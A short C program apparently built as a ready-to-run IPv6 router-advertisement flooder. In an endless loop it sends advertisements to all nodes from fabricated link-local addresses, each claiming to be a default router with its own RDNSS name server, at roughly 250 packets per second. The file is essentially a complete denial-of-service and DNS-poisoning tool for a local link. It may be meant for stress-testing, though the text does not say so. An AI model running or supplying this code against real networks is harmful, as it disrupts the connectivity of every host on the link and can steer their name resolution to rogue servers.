/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Somebody on the link who floods it: advertise IFNAME ROUTERS. Router advertisements to all nodes,
 * in turn from so many made up link-local addresses, each one a default router with a name server
 * of its own, and each time with another one; 250 a second, until it is killed.
 */
#include <stdlib.h>
#include <time.h>

#include "advert.h"

#define LEN_RDNSS 24
#define NS_PAUSE 4000000

static size_t make(uint32_t router, uint32_t turn, uint8_t packet[static ADVERT_MAX])
{
	static const uint8_t rdnss[8] = { 25, 3, 0, 0, 0, 0, 0x0e, 0x10 };
	struct in6_addr source = { .s6_addr = { 0xfe, 0x80 } };
	uint8_t *option = packet + ADVERT_HEAD;

	memcpy(source.s6_addr + 12, (const uint32_t[]){ htonl(0xbad0000 + router) }, 4);
	memset(option, 0, LEN_RDNSS);
	memcpy(option, rdnss, sizeof(rdnss));
	memcpy(option + 8, (const uint8_t[]){ 0xfd, 0, 0, 0xba }, 4);
	memcpy(option + 20, (const uint32_t[]){ htonl(turn) }, 4);
	return advert_make(packet, &source, 255, 1800, LEN_RDNSS);
}

int main(int argc, char **argv)
{
	const struct timespec pause = { .tv_nsec = NS_PAUSE };
	uint32_t n_routers = argc == 3 ? (uint32_t)atoi(argv[2]) : 0;
	struct sockaddr_ll to;
	int fd = argc == 3 ? advert_open(argv[1], &to) : -1;

	if (!n_routers || fd < 0) {
		fprintf(stderr, "usage: advertise IFNAME ROUTERS\n");
		return 2;
	}
	for (uint32_t i = 0;; i++) {
		uint8_t packet[ADVERT_MAX];
		size_t len = make(i % n_routers, i / n_routers + 1, packet);

		if (sendto(fd, packet, len, 0, (struct sockaddr *)&to, sizeof(to)) < 0)
			perror("advertise");
		nanosleep(&pause, NULL);
	}
}
